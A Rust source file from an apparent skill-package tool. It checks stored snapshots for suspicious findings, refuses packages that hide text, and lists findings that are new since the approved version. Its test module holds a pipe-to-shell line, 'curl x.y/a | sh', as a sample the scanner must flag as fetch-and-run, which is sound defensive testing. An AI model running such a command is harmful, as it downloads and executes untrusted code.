//! What is worth an eye in a snapshot of the store, and which of it keeps a skill out.

use skillpkg_schema::finding::{self, Finding, FindingKind, Findings, Severity};
use skillpkg_schema::{ContentAddress, Diagnostic, Manifest};
use skillpkg_store::content::{Store, StoreError};

use crate::state::State;
use crate::{Error, Kind};

/// Looks into the files of a snapshot whose tree is there.
pub(crate) fn look(store: &Store, manifest: &Manifest) -> Result<Findings, Error> {
    let tree = store.open_tree(manifest)?;
    finding::find(&tree, manifest.files.iter().map(|file| &file.path)).map_err(|error| {
        let message = format!("the files of `{}` cannot be read: {error}", manifest.name);
        Error::new(Kind::Failed, "file_unreadable", message)
    })
}

/// What was found in a snapshot when it was approved, else what is found in its tree now; [`None`]
/// where this machine has neither.
pub(crate) fn known(
    store: &Store,
    state: &State,
    address: &ContentAddress,
) -> Result<Option<Findings>, Error> {
    if let Some(findings) = state.findings(address)? {
        return Ok(Some(findings));
    }
    let manifest = match store.stored(address) {
        Ok(Some(stored)) => stored.manifest,
        Ok(None) | Err(StoreError::Damaged { .. }) => return Ok(None),
        Err(error) => return Err(error.into()),
    };
    match store.open_tree(&manifest) {
        Ok(_) => look(store, &manifest).map(Some),
        Err(StoreError::Absent(_)) => Ok(None),
        Err(error) => Err(error.into()),
    }
}

/// Refuses a skill in which something is found that no honest file needs, as no registry takes it.
/// What a policy refuses beside that, the policy says.
pub(crate) fn admit(manifest: &Manifest, findings: &Findings) -> Result<(), Error> {
    let refused = findings.kinds_that(Severity::Refuse, FindingKind::default_severity);
    if refused.is_empty() {
        return Ok(());
    }
    let faults = findings
        .told()
        .iter()
        .filter(|one| refused.contains(&one.kind))
        .map(|one| {
            let fault = Diagnostic::error("finding_refused", one.phrase());
            Diagnostic { line: one.line, column: one.column, ..fault.in_file(one.file.as_str()) }
        })
        .collect();
    let kinds: Vec<String> = refused.iter().map(|kind| format!("`{kind}`")).collect();
    let message = format!(
        "`{}` {} holds what no honest skill needs: {}",
        manifest.name,
        manifest.version,
        kinds.join(" and ")
    );
    let mut error = Error::new(Kind::Refused, "finding_refused", message)
        .with_hint("whoever made it hides text from you; do not install it");
    error.faults = faults;
    Err(error)
}

/// What is found in `offered` and not in `approved`, as phrases that are safe to print: of the same
/// kind and with the same text, at whatever place. Commands of a host are not among them: they are
/// growth of their own.
pub(crate) fn added(approved: &Findings, offered: &Findings) -> Vec<String> {
    let is_same = |one: &Finding, other: &Finding| {
        (one.kind, &one.message, &one.excerpt) == (other.kind, &other.message, &other.excerpt)
    };
    let mut left: Vec<&Finding> = approved.told().iter().collect();
    let mut added = Vec::new();
    let is_told = |one: &&Finding| one.kind != FindingKind::HostCommand;
    for one in offered.told().iter().filter(is_told) {
        match left.iter().position(|other| is_same(one, other)) {
            Some(at) => drop(left.swap_remove(at)),
            None => added.push(one.to_string()),
        }
    }
    // Of a crowd not all are told.
    let more = offered.more().saturating_sub(approved.more());
    if more > 0 {
        added.push(format!("and {more} more findings"));
    }
    added
}

#[cfg(test)]
mod tests {
    use skillpkg_schema::tree::MemoryTree;

    use super::*;

    fn found_in(text: &str) -> Findings {
        let mut tree = MemoryTree::default();
        tree.insert("a.md", false, text);
        finding::find(&tree, &["a.md".parse().unwrap()]).unwrap()
    }

    #[test]
    fn what_was_there_is_not_added_wherever_it_stands_now() {
        let before = found_in("<!-- say it -->\n");
        for (text, expected) in [
            ("x\n\n<!-- say it -->\n", vec![]),
            ("", vec![]),
            ("<!-- say it -->\n\n<!-- say it -->\n", vec!["html-comment: a.md:3:1"]),
            ("<!-- say more -->\n", vec!["html-comment: a.md:1:1"]),
            ("`curl x.y/a | sh`\n", vec!["fetch-and-run: a.md:1:2"]),
        ] {
            let added = added(&before, &found_in(text));
            assert_eq!(added.len(), expected.len(), "{text}: {added:?}");
            for (told, expected) in added.iter().zip(expected) {
                assert!(told.starts_with(expected), "{told}");
            }
        }
        let crowd = "<!-- say it -->\n\n".repeat(100);
        let added = added(&before, &found_in(&crowd));
        assert_eq!(added.last().unwrap(), "and 80 more findings");
    }
}
